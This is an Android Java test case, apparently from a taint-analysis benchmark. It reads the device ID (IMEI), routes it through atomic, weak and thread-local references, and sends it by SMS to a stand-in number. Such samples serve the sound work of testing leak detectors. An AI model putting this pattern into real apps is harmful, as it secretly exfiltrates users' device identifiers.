package org.brookside.ways;

import android.app.*;
import android.content.*;
import android.content.res.Configuration;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.lang.ref.*;
import java.lang.reflect.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.concurrent.atomic.*;
import java.util.regex.*;

/** In an atomic, a weak and a thread-local reference. */
public class Atomic extends Case {
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        AtomicReference<String> a = new AtomicReference<>(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        WeakReference<String> w = new WeakReference<>(a.get());
        ThreadLocal<String> t = new ThreadLocal<>();
        t.set(w.get());
        SmsManager.getDefault().sendTextMessage("5556", null, t.get(), null, null);
    }
}
